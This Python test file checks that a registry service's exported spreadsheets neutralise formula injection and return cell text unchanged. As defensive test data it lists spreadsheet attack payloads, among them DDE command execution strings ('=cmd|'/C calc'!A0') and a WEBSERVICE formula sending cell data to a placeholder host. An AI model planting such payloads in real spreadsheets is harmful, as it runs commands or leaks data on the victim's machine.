"""No cell of a sheet that leaves the house can act as a formula, and what it says comes back as it went (round trip)."""

import io
import re
import zipfile

import openpyxl
import orjson
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from services.openapi import COMMITTED
from services.registry.households.imports import HOUSEHOLDS, PEOPLE
from shared.sheets import Column, RowError, SheetSpec, annotate, cells, read, template
from shared.sheets.annotate import LONGEST

SPEC = SheetSpec(
    "notes",
    "记录",
    (
        Column("no", ("户编号",), cells.business_no()),
        Column("note", ("备注",), cells.text(), fold=False),
        Column("amount", ("金额",), cells.amount_fen(), required=False),
    ),
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'", '"', "|", "%", ";", "￥", "\u200b=", " =")
PAYLOADS = (
    "=1+1", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", '=HYPERLINK("http://x","点击")',
    "=WEBSERVICE(\"http://x/?\"&A1)", "＝1+1", "＠SUM(A1)", "\t=1+1", "\r=1+1", "'=1+1", "{=1+1}", "=IMPORTXML(CONCAT(\"http://x\"))", "-1", "+86 13", "_x0041_",
    "_x005F_", "&amp;", "<f>1</f>", "]]>", "1e5", "00123", "TRUE", "2016-11-01", "#REF!", "é", "甲" * 300,
)  # fmt: skip
TEXT = st.builds(
    str.__add__, st.sampled_from(STARTS), st.text(st.characters(exclude_categories=["Cs", "Cc", "Cn"]), max_size=40)
)


def csv_of(note: str) -> bytes:
    quoted = note.replace('"', '""')
    return f'户编号,备注,金额\nH1,"{quoted}",12.5\n'.encode()


def sent_back(note: str) -> bytes:
    """What an office gets that sent this note in a file with something wrong in it."""
    return annotate(csv_of(note), [SPEC], [RowError(2, "备注", "x", "错", "wrong", sheet="记录")])


def formulas(book: bytes) -> list[str]:
    """Every element or cell of the workbook by which a program that opens it could be made to act."""
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    acting = re.compile(
        rb"<(?:\w+:)?f[\s>/]|<(?:\w+:)?(?:ddeLink|oleLink|externalReference|hyperlink|calcChain|definedName)\b"
    )
    found = [f"{name}: {m.group()!r}" for name, part in parts.items() for m in acting.finditer(part)]
    return found + [name for name in parts if re.search(r"vba|external|embed|activeX|calcChain|connections", name)]


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(note=TEXT)
@example("=1")
def test_whatever_a_cell_begins_with_it_leaves_as_text_and_comes_back_the_same(note):
    book = sent_back(note)
    assert formulas(book) == []
    came = read(csv_of(note), SPEC)
    again = read(book, SPEC)
    told = openpyxl.load_workbook(io.BytesIO(book))["记录"]["B2"]
    if came.rows and str(came.rows[0][1]).strip():
        assert again.rows[0][:2] == came.rows[0][:2]
        assert (told.data_type, told.quotePrefix, told.number_format) == ("s", True, "@")


@pytest.mark.parametrize("note", PAYLOADS)
def test_known_attacks_leave_as_text_and_come_back_the_same(note):
    book = sent_back(note)
    told = openpyxl.load_workbook(io.BytesIO(book))["记录"]["B2"]
    assert (formulas(book), told.data_type, told.quotePrefix) == ([], "s", True)
    assert read(book, SPEC).rows[0][:3] == ["H1", note, "12.5"]


def test_a_number_comes_back_as_the_number_it_was():
    for amount in ("0", "-0", "12.5", "0.1", "999999999999.99", "1e5"):
        data = f"户编号,备注,金额\nH1,x,{amount}\n".encode()
        book = annotate(data, [SPEC], [RowError(2, "金额", "x", "错", "wrong", sheet="记录")])
        assert read(book, SPEC).rows[0][2] == amount


def test_a_cell_that_no_spreadsheet_holds_is_cut_and_not_left_out():
    longest = "甲" * (LONGEST + 1)
    assert read(sent_back("x" + longest), SPEC).rows[0][1] == "x" + longest[: LONGEST - 1]


def test_the_forms_hold_nothing_that_acts():
    assert formulas(template((HOUSEHOLDS, PEOPLE))) == []


def test_every_route_that_gives_a_sheet_is_one_of_these():
    """A new export is named here, with a test of its own above."""
    document = orjson.loads(COMMITTED.read_bytes())
    exports = {
        path.split("/imports/")[1]
        for path, item in document["paths"].items()
        for operation in item.values()
        for answer in operation["responses"].values()
        for kind in answer.get("content", {})
        if "spreadsheet" in kind or "csv" in kind
    }
    assert exports == {"{import_id}/report", "{kind}/template"}
